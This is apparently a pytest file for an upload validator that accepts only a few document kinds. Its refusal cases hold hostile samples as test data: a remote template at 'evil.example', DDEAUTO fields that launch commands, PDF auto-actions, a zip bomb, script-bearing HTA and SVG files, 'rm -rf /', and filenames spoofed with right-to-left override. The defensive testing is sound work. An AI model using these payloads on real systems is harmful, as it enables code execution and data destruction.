# SPDX-License-Identifier: Apache-2.0
"""Papers between traders and officers: of few kinds, by content and by name, and nothing else beside."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from cocket.errors import SenderError
from cocket.pipeline.control.trader_papers import check_paper, clean_name
from cocket.settings import Settings
from tests.pipeline.control.test_contests import picture

PDF = b"%PDF-1.7\n1 0 obj\n<</Type /Catalog>>\nendobj\ntrailer\n<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"
_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def office(main: str = _WORD, **more: bytes) -> bytes:
    """An office document, with more members."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        archive.writestr("[Content_Types].xml", f'<Types><Override ContentType="{main}"/></Types>')
        for name, content in more.items():
            archive.writestr(name.replace("__", "/"), content)
    return written.getvalue()


RELATIONS = "word/_rels/settings.xml.rels"


def relation(kind: str, target: str, mode: str = "External") -> bytes:
    where = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    return f'<Relationships><Relationship Id="r1" Type="{where}" Target="{target}" TargetMode="{mode}"/></Relationships>'.encode()


def field(*pieces: str) -> bytes:
    return b"<w:p>" + b"".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>".encode() for one in pieces) + b"</w:p>"


def open_document(kind: str = "text") -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        archive.writestr("mimetype", f"application/vnd.oasis.opendocument.{kind}")
        archive.writestr("content.xml", "<office/>")
    return written.getvalue()


def bomb() -> bytes:
    """A document of some hundred kilobytes that unpacks to 60 million bytes."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", f'<Types><Override ContentType="{_WORD}"/></Types>')
        archive.writestr("word/media/image1.bmp", bytes(60_000_000))
    return written.getvalue()


def taken(name: str, content: bytes) -> tuple[str, str]:
    checked = check_paper(name, content, Settings(home=Path()))
    return checked.new.name, checked.type


def why_not(name: str, content: bytes) -> str:
    with pytest.raises(SenderError) as caught:
        taken(name, content)
    return caught.value.findings[0].code


def test_each_kind_is_taken_by_content_and_ending() -> None:
    assert taken("Invoice 12.PDF", PDF) == ("Invoice 12.pdf", "application/pdf")
    assert taken("photo.png", picture())[1] == "image/png"
    assert taken("letter.txt", "Guten Tag, «Zoll»\r\n".encode()) == ("letter.txt", "text/plain")
    assert taken("letter.docx", office())[1].endswith("wordprocessingml.document")
    assert taken("list.xlsx", office(_SHEET))[1].endswith("spreadsheetml.sheet")
    assert taken("letter.odt", open_document())[1].endswith("opendocument.text")
    assert taken("list.ods", open_document("spreadsheet"))[1].endswith("opendocument.spreadsheet")


def test_what_a_document_links_to_or_says_is_no_reason_to_refuse_it() -> None:
    link = relation("hyperlink", "https://example.org/")
    assert taken("a.docx", office(**{"word/_rels/document.xml.rels": link}))
    assert taken("a.docx", office(**{"word/document.xml": b"<w:t>p,p'-DDE is a metabolite of DDT</w:t>"}))
    assert taken("a.docx", office(**{"word/document.xml": field(" HYPERLINK x ", "PAGE")}))
    assert taken("a.docx", office(**{RELATIONS: relation("attachedTemplate", "Normal.dotm", "Internal")}))
    assert taken("a.pdf", PDF.replace(b"/Type", b"/Annots [<</A <</S /URI /URI (https://example.org)>>>>] /Type"))


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("a.docx", office(**{RELATIONS: relation("attachedTemplate", "https://evil.example/t.dotm")}), "paper-outside"),
        ("a.docx", office(**{"word/_rels/document.xml.rels": relation("oleObject", "file:///x")}), "paper-outside"),
        (
            "a.docx",
            office(**{RELATIONS: relation("attachedTemplate", "https://evil.example/hyperlink")}),
            "paper-outside",
        ),
        ("a.docx", office(**{"word/document.xml": field('DDEAUTO c:\\\\x "/k calc"')}), "paper-active"),
        ("a.docx", office(**{"word/document.xml": field("D", "DE", " excel x y")}), "paper-active"),
        ("a.docx", office(**{"word/document.xml": b"<w:fldSimple w:instr='DDE a b'/>"}), "paper-active"),
        (
            "a.xlsx",
            office(_SHEET, **{"xl/externalLinks/externalLink1.xml": b"<ddeLink ddeService='x'/>"}),
            "paper-active",
        ),
        ("a.pdf", PDF.replace(b"/Type", b"/OpenAction <</S /URI /URI (http://x)>> /Type"), "paper-outside"),
        ("a.pdf", PDF.replace(b"/Type", b"/AA <</O <</S /SubmitForm /F (http://x)>>>> /Type"), "paper-outside"),
        ("a.docx", bomb(), "paper-unpacks"),
        ("letter.txt", "Grüße".encode("latin-1"), "paper-encoding"),
        ("run.hta", b"<hta:application id=x><script>alert(1)</script>", "paper-markup"),
        ("page.html", b"<!doctype html><p>hello", "paper-markup"),
        ("page.txt", b"hello\n<script>alert(1)</script>", "paper-markup"),
        ("drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", "paper-markup"),
        ("setup.exe", b"MZ\x90\x00\x03\x00", "paper-type"),
        ("script.txt", b"#!/bin/sh\nrm -rf /\n", "paper-markup"),
        ("a.pdf", PDF + office(), "paper-two"),
        ("a.pdf", PDF + b"<script>x()</script>", "paper-two"),
        ("a.pdf", b"%PDF-1.7\n<html><script>x()</script></html>\n%%EOF\n", "paper-two"),
        ("a.pdf", PDF.replace(b"/Type", b"/OpenAction <</S /JavaScript>> /Type"), "paper-active"),
        ("a.pdf", b"%PDF-1.7\nnothing more", "paper-two"),
        ("a.docx", office(word__vbaProject_bin=b"x").replace(b"vbaProject_bin", b"vbaProject.bin"), "paper-active"),
        ("a.docx", b"PK\x03\x04 and no more", "paper-broken"),
        ("a.docx", office() + b"<html>", "paper-two"),
        ("a.zip", office("application/zip"), "paper-type"),
        ("invoice.pdf.hta", PDF, "paper-ending"),
        ("invoice.png", PDF, "paper-ending"),
        ("pdf", PDF, "paper-ending"),
        ("a.txt", b"", "paper-empty"),
        ("a.txt", b"a\x00b", "paper-type"),
        ("a.png", b"\x89PNG\r\n\x1a\n" + b"IEND\xaeB`\x82" + b"<script>", "paper-two"),
    ],
)
def test_what_is_none_of_them_or_two_at_once_is_refused(name: str, content: bytes, code: str) -> None:
    assert why_not(name, content) == code


def test_a_name_loses_its_folders_and_what_cannot_be_seen_or_turns_it() -> None:
    assert clean_name("C:\\scans\\inv\u202egpj.pdf") == "invgpj.pdf"
    assert clean_name("../../etc/a\r\nb\x00\u200b.pdf") == "ab.pdf"
    assert taken("exe\u202efdp.txt.pdf", PDF)[0] == "exefdp.txt.pdf"
    assert len(taken("x" * 500 + ".pdf", PDF)[0]) == 124
